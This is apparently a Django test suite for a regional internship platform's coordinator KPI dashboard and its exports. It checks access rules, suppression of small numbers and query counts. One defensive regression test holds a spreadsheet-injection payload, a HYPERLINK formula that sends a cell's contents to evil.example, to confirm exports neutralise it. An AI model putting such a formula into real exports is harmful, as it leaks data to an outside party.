"""The coordinators' figures on pages and in exports: the same values as the
selectors, small numbers hidden everywhere, coordinators only, few queries."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from audit.models import AuditEntry
from insights.models import KpiSnapshot
from marketplace.models import Placement
from matching.models import Match
from tests import factories
from tests.conftest import login_with_second_factor
from tests.insights.test_kpis import at, region  # noqa: F401 - the hand-made data set

pytestmark = pytest.mark.django_db
Q2 = {"period": "2026-Q2"}


@pytest.fixture
def carla(client: Client, region: dict):  # noqa: F811
    login_with_second_factor(client, region["world"].carla)
    return client


def test_only_coordinators(client: Client, region: dict) -> None:  # noqa: F811
    world = region["world"]
    urls = [
        reverse("web:kpis"),
        reverse("web:kpi_export", args=["csv"]),
        reverse("web:kpi_report"),
        reverse("web:skills_gap"),
    ]
    for person in (world.sam, world.dirk, world.bram, world.zeynep):
        client.force_login(person)
        for url in urls:
            assert client.get(url, Q2).status_code == 403, (person, url)
        assert client.post(reverse("web:kpi_baseline"), {"year": "2026"}).status_code == 403
    assert not KpiSnapshot.objects.exists()


def test_the_dashboard_shows_the_figures_with_small_numbers_hidden(carla: Client) -> None:
    html = carla.get(reverse("web:kpis"), Q2).content.decode()
    assert "<svg" in html  # the charts
    assert "&lt;5" in html  # three placements
    rows = html.split('kpi-table">')[1]
    assert re.search(r'<td data-label="[^"]+">5</td>', rows)  # five places offered, shown
    assert (
        "Woerden"
        in carla.get(reverse("web:kpis"), {**Q2, "breakdown": "municipality"}).content.decode()
    )


def test_a_bad_period_falls_back_with_a_message(carla: Client) -> None:
    response = carla.get(reverse("web:kpis"), {"period": "2026-Q9", "breakdown": "colour"})
    html = response.content.decode()
    assert response.status_code == 200
    assert "kwartaal" in html  # "Een periode is een jaar (2026) of een kwartaal (2026-Q3)."


def test_csv_and_xlsx_hide_small_numbers_too(carla: Client) -> None:
    response = carla.get(reverse("web:kpi_export", args=["csv"]), Q2)
    assert response["Content-Type"].startswith("text/csv")
    text = response.content.decode("utf-8-sig")
    table = list(csv.reader(io.StringIO(text), delimiter=";"))
    header, total = table[0], table[1]
    assert total[header.index("Plaatsen vervuld")] == "<5"
    assert total[header.index("Aangeboden stage- en leerbaanplaatsen")] == "5"
    book = load_workbook(
        io.BytesIO(carla.get(reverse("web:kpi_export", args=["xlsx"]), Q2).content)
    )
    sheet = book.active
    head = [c.value for c in sheet[1]]
    assert sheet.cell(row=2, column=head.index("Plaatsen vervuld") + 1).value == "<5"
    assert (
        sheet.cell(row=2, column=head.index("Aangeboden stage- en leerbaanplaatsen") + 1).value == 5
    )


def test_freezing_a_baseline_and_comparing(carla: Client, region: dict) -> None:  # noqa: F811
    carla.post(reverse("web:kpi_baseline"), {"year": "2026"})
    snapshot = KpiSnapshot.objects.get(period="2026", kind="baseline")
    assert snapshot.taken_by == region["world"].carla
    html = carla.get(reverse("web:kpis"), {"period": "2026"}).content.decode()
    assert "(0)" in html  # no change yet against the baseline
    response = carla.post(reverse("web:kpi_baseline"), {"year": "2026-Q1"}, follow=True)
    assert "heel jaar" in response.content.decode()


def test_report_and_skills_gap(carla: Client) -> None:
    report = carla.get(reverse("web:kpi_report"), Q2).content.decode()
    assert "2026-Q2" in report
    assert "CNC-draaien" in report
    gap = carla.get(reverse("web:skills_gap"), Q2).content.decode()
    assert gap.index("CNC-draaien") < gap.index("Lassen")
    response = carla.get(reverse("web:skills_gap"), {**Q2, "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows[1][:3] == ["CNC-draaien", "5", "<5"]
    bad = carla.get(reverse("web:skills_gap"), {**Q2, "municipality": "Atlantis"})
    assert bad.status_code == 200


def test_the_dashboard_needs_few_queries_at_region_scale(
    carla: Client,
    region: dict,  # noqa: F811
    django_assert_max_num_queries,
) -> None:
    world = region["world"]
    place = factories.PlaceFactory(name="Woerden")
    company = world.company_x
    openings = [
        factories.OpeningFactory(company=company, place=place, published_at=at(2026, 4, 2))
        for _ in range(40)
    ]
    for i, opening in enumerate(openings[:25]):
        p = Placement.objects.create(
            opening=opening, company=company, type="bol", start_date=at(2026, 5, 1).date()
        )
        Placement.objects.filter(pk=p.pk).update(confirmed_at=at(2026, 5, 1 + i % 20))
    profile = factories.ProfileFactory(user=factories.UserFactory())
    for opening in openings[:30]:
        m = factories.MatchFactory(profile=profile, opening=opening, state="approved")
        AuditEntry.objects.create(
            created_at=at(2026, 5, 2),
            action="transition",
            student=profile.user,
            match=m,
            from_state="suggested",
            to_state="approved",
        )
    assert Match.objects.count() >= 33
    # 16 for the figures and the page, 1 for the course sign-ups, 1 for the guest
    # lessons given, 5 for the skills gap behind the top gaps with and without a
    # course: none grows with the data.
    with django_assert_max_num_queries(23):
        response = carla.get(reverse("web:kpis"), {**Q2, "breakdown": "learning_location"})
    assert response.status_code == 200


FORMULA = '=HYPERLINK("https://evil.example/?d="&A1,"Klik")'


@pytest.mark.parametrize("name", [FORMULA, "+31 6 1234", "-2+3", "@SUM(A1)", "\tx", "\rx"])
def test_exports_never_carry_a_live_formula(carla: Client, region: dict, name: str) -> None:  # noqa: F811
    """Regression: a learning location renamed to a formula came out raw in the
    CSV and as a live formula (cell type f) in the XLSX."""
    from accounts.models import Organisation, OrganisationKind

    Organisation.objects.filter(kind=OrganisationKind.LEARNING_LOCATION).update(name=name)
    query = {**Q2, "breakdown": "learning_location"}
    text = carla.get(reverse("web:kpi_export", args=["csv"]), query).content.decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert "'" + name in cells
    assert not any(c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    book = load_workbook(
        io.BytesIO(carla.get(reverse("web:kpi_export", args=["xlsx"]), query).content)
    )
    sheet_cells = [c for row in book.active.iter_rows() for c in row]
    # XML reads a carriage return back as a line feed.
    assert "'" + name.replace("\r", "\n") in [c.value for c in sheet_cells]
    assert not any(c.data_type == "f" for c in sheet_cells)
    assert any(c.data_type == "n" for c in sheet_cells)  # figures stay numbers
